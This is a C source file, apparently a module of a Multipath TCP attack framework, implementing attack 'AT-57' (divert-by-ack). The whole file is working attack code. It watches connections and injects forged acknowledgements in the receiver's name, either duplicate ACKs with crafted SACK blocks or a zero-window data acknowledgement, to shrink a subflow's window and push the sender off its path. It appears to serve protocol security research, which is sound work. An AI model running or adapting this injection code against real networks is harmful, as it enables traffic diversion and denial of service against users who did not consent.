/* SPDX-License-Identifier: MIT */
/*
 * AT-57: drives the octets of a connection off a path, in acknowledgements of
 * who receives them there. Duplicate ones with SACK blocks are taken for a loss
 * and halve the subflow's window; a receive window of 0 is to stop it.
 */
#include "atk_flows.h"
#include "atk_table.h"
#include "mpx_tcp.h"

enum { HOW, EVERY };
enum { BY_WINDOW = 1 };
static const char *const how_words[] = {"duplicates", "window", NULL};
static const struct atk_param params[] = {
    [HOW] = {"how", ATK_P_WORD, .words = how_words},
    [EVERY] = {"every", ATK_P_TIME, .initial = 50000000, .min = 1000000,
               .max = UINT64_C(10000000000)},
    {.name = NULL},
};

enum { DUPLICATES = 3 }; /* RFC 5681 section 3.2 */

struct state {
    struct atk_flows flows;
    uint64_t next[ATK_FLOWS_MAX]; /* when it acts again */
};

/* The newest segments have come, one more in each; what is before is missing.
 */
static void forge_duplicates(struct atk *a, const struct atk_watched *f,
                             const struct atk_segment *s, uint64_t now)
{
    uint32_t end = f->way[s->dir].next, len = (uint32_t)s->payload_len;

    for (uint32_t i = 1; i <= DUPLICATES; i++) {
        uint8_t sack[10] = {MPX_KIND_SACK, sizeof sack};
        struct atk_opts d = {.n = 0};

        mpx_put32(sack + 2, end - i * len);
        mpx_put32(sack + 6, end);
        atk_opts_add_raw(&d, sack, sizeof sack);
        atk_flows_inject(a, f, !s->dir, MPX_TCP_ACK, &d, NULL, 0, now);
    }
}

/* What the receiver said last, and no room. */
static void forge_window(struct atk *a, const struct atk_watched *f,
                         const struct atk_segment *s, uint64_t now)
{
    struct mpx_opt o = {.subtype = MPX_SUB_DSS};
    struct atk_watched shut = *f;
    struct atk_opts d = {.n = 0};

    shut.way[!s->dir].window = 0;
    o.u.dss.has_ack = shut.way[!s->dir].has_dack;
    o.u.dss.ack8 = shut.way[!s->dir].dack_len == 8;
    o.u.dss.ack = shut.way[!s->dir].dack;
    atk_opts_add(&d, &o);
    atk_flows_inject(a, &shut, !s->dir, MPX_TCP_ACK, &d, NULL, 0, now);
}

static enum atk_verdict on_segment(struct atk *a, void *state,
                                   const struct atk_segment *s, uint64_t now)
{
    struct state *st = state;
    struct atk_watched *f = atk_flows_note(a, &st->flows, s, now);
    const struct atk_way *back;

    if (!f || now < atk_config(a)->acts || !s->payload_len)
        return ATK_PASS;
    back = &f->way[!s->dir];
    if (now < st->next[f - st->flows.v] || !back->has_ack ||
        f->way[s->dir].next - back->ack <= DUPLICATES * s->payload_len)
        return ATK_PASS;
    st->next[f - st->flows.v] = now + atk_param(a, EVERY);
    if (atk_param(a, HOW) == BY_WINDOW)
        forge_window(a, f, s, now);
    else
        forge_duplicates(a, f, s, now);
    return ATK_PASS;
}

const struct atk_ops atk_ack_divert = {
    .name = "divert-by-ack",
    .id = "AT-57",
    .does = "sends acknowledgements in the name of the receiver, so that the "
            "sender leaves its path",
    .source = "RFC 5681 section 3.2; RFC 8684 section 3.3.5; Munir et al. 2017",
    .powers = ATK_READ | ATK_INJECT,
    .params = params,
    .state_size = sizeof(struct state),
    .on_segment = on_segment,
};
